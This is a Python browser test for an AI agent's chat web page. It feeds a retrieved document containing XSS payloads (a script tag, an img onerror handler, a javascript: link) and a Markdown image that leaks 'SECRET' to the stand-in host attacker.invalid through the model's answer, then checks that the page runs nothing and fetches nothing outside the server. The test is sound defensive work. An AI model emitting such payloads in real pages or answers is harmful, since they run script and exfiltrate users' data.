"""The web page against hostile text, in a real browser (Debian's chromium, Playwright): a retrieved
document with a <script>, an <img onerror> and a remote Markdown image, which the (scripted) model
quotes in its answer. The page runs none of it and makes no request outside the server."""

from __future__ import annotations

import os
import re
from typing import Any

import pytest

from heron.agents.serve import create_app
from heron.config import Settings
from heron.llm.fake import ScriptedLLM
from tests.agents.serve_helpers import served
from tests.conftest import REPO_ROOT

CHROMIUM = os.environ.get("HERON_TEST_CHROMIUM", "/usr/bin/chromium")
SCREENSHOTS = REPO_ROOT / "benchmarks" / "out" / "serve-screenshots"
HOSTILE = (
    "Quarterly notes. <script>window.pwned = 'script'</script> "
    "<img src=x onerror=\"window.pwned = 'img'\"> ![chart](http://attacker.invalid/leak?q=SECRET) "
    "[details](javascript:window.pwned='link')"
)


def test_hostile_document_text_is_shown_as_text_and_fetches_nothing(settings: Settings) -> None:
    from playwright.sync_api import expect, sync_playwright

    from heron.memory import VectorMemory

    profile = {"docs": {"tools": [], "memory": "hostile"}}
    settings = settings.model_copy(update={"serve": Settings(serve={"profiles": profile}).serve})
    with VectorMemory(settings, collection="hostile") as memory:
        memory.add_texts([HOSTILE], [{"source": "notes.md"}])
    llm = ScriptedLLM(
        [
            {"action": "retrieve", "arguments": {"query": "quarterly notes"}},
            {"action": "final_answer", "answer": f"The notes say: {HOSTILE}", "citations": []},
        ]
    )
    requests: list[str] = []
    with served(create_app(settings, llm=llm)) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True)
        page = browser.new_page()
        page.on("request", lambda request: requests.append(request.url))
        dialogs: list[Any] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(url)
        page.fill("#question", "What do the quarterly notes say?")
        page.press("#question", "Enter")
        answer = page.locator(".msg.assistant").last
        expect(answer.locator(".status")).to_have_text(re.compile("succeeded"), timeout=60_000)
        assert "<script>window.pwned = 'script'</script>" in answer.locator(".answer").inner_text()
        answer.locator("details.card summary").first.click()  # the retrieved passage, shown as text
        assert "onerror" in answer.locator("details.card pre").first.inner_text()
        answer.locator("a").evaluate_all("links => links.forEach(a => a.click())")  # javascript: links
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOTS / "hostile-document.png"), full_page=True)
        page.click("#nav-runs")
        page.locator("#runs tbody tr").first.click()
        expect(page.locator("#timeline li").first).to_be_visible()
        page.locator("#timeline details summary").evaluate_all("s => s.forEach(e => e.click())")
        assert page.evaluate("window.pwned") is None
        assert page.locator("script").count() == 1  # app.js only
        assert page.locator("img").count() == 0
        browser.close()
    assert not dialogs
    outside = [u for u in requests if not u.startswith(url)]
    assert outside == [], outside
    assert any("/v1/chat/completions" in u for u in requests)  # the log did watch the page's requests


@pytest.fixture(autouse=True)
def _chromium_present() -> None:
    assert os.path.exists(CHROMIUM), f"{CHROMIUM} is missing: `make test` installs it (make browser)"
